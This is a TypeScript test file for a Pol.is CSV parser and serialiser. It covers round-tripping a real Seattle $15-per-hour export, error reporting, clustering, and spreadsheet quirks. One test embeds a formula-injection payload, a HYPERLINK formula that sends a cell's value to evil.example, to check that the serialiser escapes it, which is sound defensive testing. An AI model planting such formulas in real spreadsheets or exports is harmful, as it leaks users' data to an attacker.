import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { computeOpinionMap } from './opinion-map.js';
import { parsePolisExport, polisToConversation, PolisCsvError, POLIS_ATTRIBUTION, serialisePolisExport, type PolisFiles } from './polis-csv.js';

const dir = new URL('../../fixtures/polis/15-per-hour-seattle/', import.meta.url);
const files: PolisFiles = {
  'comments.csv': readFileSync(new URL('comments.csv', dir), 'utf8'),
  'votes.csv': readFileSync(new URL('votes.csv', dir), 'utf8'),
  'participants-votes.csv': readFileSync(new URL('participants-votes.csv', dir), 'utf8'),
};

function ari(a: number[], b: number[]): number {
  const c2 = (x: number) => (x * (x - 1)) / 2;
  const t = new Map<string, number>(), ra = new Map<number, number>(), rb = new Map<number, number>();
  a.forEach((x, i) => { t.set(`${x}|${b[i]}`, (t.get(`${x}|${b[i]}`) ?? 0) + 1); ra.set(x, (ra.get(x) ?? 0) + 1); rb.set(b[i], (rb.get(b[i]) ?? 0) + 1); });
  let s = 0, sa = 0, sb = 0;
  t.forEach((v) => { s += c2(v); }); ra.forEach((v) => { sa += c2(v); }); rb.forEach((v) => { sb += c2(v); });
  const e = (sa * sb) / c2(a.length);
  return (s - e) / ((sa + sb) / 2 - e);
}

describe('Pol.is CSV interchange', () => {
  const exp = parsePolisExport(files, { source: 'https://compdemocracy.org/case-studies/2014-seattle-15-per-hour' });

  it('parses the real export into plain data with the CC BY attribution', () => {
    expect(exp.attribution.text).toBe(POLIS_ATTRIBUTION);
    expect(exp.attribution.license).toBe('CC BY 4.0');
    expect(exp.comments!.rows.length).toBe(54);
    expect(exp.comments!.rows.filter((c) => c.moderated === -1).length).toBe(23);
    expect(exp.votes!.rows.length).toBe(2995);
    expect(exp.participantsVotes!.rows.length).toBe(339);
    expect(exp.participantsVotes!.commentColumns.length).toBe(54);
    const p1 = exp.participantsVotes!.rows.find((r) => r.participant === 1)!;
    expect(p1.groupId).toBe(1);
    expect(p1.votes.slice(0, 8)).toEqual([1, 1, 1, 1, 1, 1, 1, -1]);
    expect(p1.votes[20]).toBeNull();
    // a quoted body with commas and quotes survives
    expect(exp.comments!.rows.find((c) => c.commentId === 48)!.body).toMatch(/^Businesses, small or large/);
  });

  it('serialises back to the identical files', () => {
    const back = serialisePolisExport(exp);
    expect(back['comments.csv']).toBe(files['comments.csv']);
    expect(back['votes.csv']).toBe(files['votes.csv']);
    expect(back['participants-votes.csv']).toBe(files['participants-votes.csv']);
    expect(parsePolisExport(back)).toEqual({ ...exp, attribution: { ...exp.attribution, source: null } });
  });

  it('names file and line of bad rows, and returns nothing when any file is bad', () => {
    const badVotes = 'timestamp,datetime,comment-id,voter-id,vote\n1,x,0,1,1\n2,y,0,2,2\n3,z,zero,3,1\n';
    let err: unknown;
    try { parsePolisExport({ 'comments.csv': files['comments.csv'], 'votes.csv': badVotes }); } catch (e) { err = e; }
    expect(err).toBeInstanceOf(PolisCsvError);
    const e = err as PolisCsvError;
    expect(e.file).toBe('votes.csv');
    expect(e.line).toBe(3);
    expect(e.problems.map((p) => p.line)).toEqual([3, 4]);
    expect(e.message).toMatch(/votes\.csv:3: .*vote "2"/);
    expect(e.message).toMatch(/votes\.csv:4: .*comment-id/);
    expect(() => parsePolisExport({ 'participants-votes.csv': 'participant,group-id,0,1\n0,,1,-1\n1,0,1\n' })).toThrow(/participants-votes\.csv:3: 3 fields, header has 4/);
    expect(() => parsePolisExport({ 'comments.csv': 'comment-id,comment-body\n1,"unterminated\n' })).toThrow(/comments\.csv:2: unterminated quoted field/);
    expect(() => parsePolisExport({ 'votes.csv': 'comment-id,vote\n1,1\n' })).toThrow(/votes\.csv:1: missing column\(s\): voter-id/);
    expect(() => parsePolisExport({})).toThrow(PolisCsvError);
  });

  it('feeds the math: Pol.is groups are recovered on this export', () => {
    const conv = polisToConversation(exp);
    expect(conv.statementFlags.filter((f) => f === 'rejected').length).toBe(23);
    const res = computeOpinionMap({ matrix: conv.matrix, statementFlags: conv.statementFlags }, { seed: 1 });
    if (res.status !== 'ok') throw new Error(res.reason);
    expect(res.k).toBe(2);
    const idx: number[] = [];
    conv.polisGroup.forEach((g, i) => { if (g >= 0) idx.push(i); });
    expect(idx.length).toBe(138);
    // every participant Pol.is clustered is clustered by us too (same entry rule)
    expect(idx.every((i) => res.participantGroup[i] >= 0)).toBe(true);
    expect(ari(idx.map((i) => res.participantGroup[i]), idx.map((i) => conv.polisGroup[i]))).toBeGreaterThan(0.5);
  });
  it('writes formula-like statements as text (an apostrophe in front) and reads them back exactly', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const bodies = [attack, '+1 from me', '-this is bad', '@mention', '\tindented', "'=already marked", '-1', 'plain'];
    const src = parsePolisExport({ 'comments.csv': files['comments.csv'] });
    const mine = { ...src, comments: { ...src.comments!, rows: src.comments!.rows.slice(0, bodies.length).map((r, k) => ({ ...r, body: bodies[k] })) } };
    const csv = serialisePolisExport(mine)['comments.csv']!;
    // no cell written starts like a formula, except the number -1; votes and counts stay numbers
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).toContain(",'+1 from me");
    expect(csv).toContain(",'-this is bad");
    expect(csv).toContain(",'@mention");
    expect(csv).toContain(",'\tindented");
    expect(csv).toContain(",''=already marked");
    expect(csv).toMatch(/,-1\n/);
    expect(csv).not.toMatch(/,(=|\+1 from|-this|@mention)/);
    const back = parsePolisExport({ 'comments.csv': csv });
    expect(back.comments!.rows.map((r) => r.body)).toEqual(bodies);
    expect(back.comments!.rows.map((r) => r.moderated)).toEqual(mine.comments.rows.map((r) => r.moderated));
    expect(serialisePolisExport(back)['comments.csv']).toBe(csv);
  });

  it('reads files saved by a spreadsheet: byte-order mark, ; separator, CRLF, empty trailing columns, and says so', () => {
    const saved = '\uFEFFtimestamp;comment-id;voter-id;vote;;;\r\n1;0;1;-1;;;\r\n2;0;2;1;;;\r\n';
    const exp2 = parsePolisExport({ 'votes.csv': saved });
    expect(exp2.votes!.header).toEqual(['timestamp', 'comment-id', 'voter-id', 'vote']);
    expect(exp2.votes!.rows.map((r) => [r.voterId, r.vote])).toEqual([[1, -1], [2, 1]]);
    expect(exp2.ignored).toEqual({ 'votes.csv': { bom: true, emptyColumns: [5, 6, 7], delimiter: ';' } });
    // an ordinary Pol.is file reports nothing ignored
    expect(exp.ignored).toBeUndefined();
  });
});

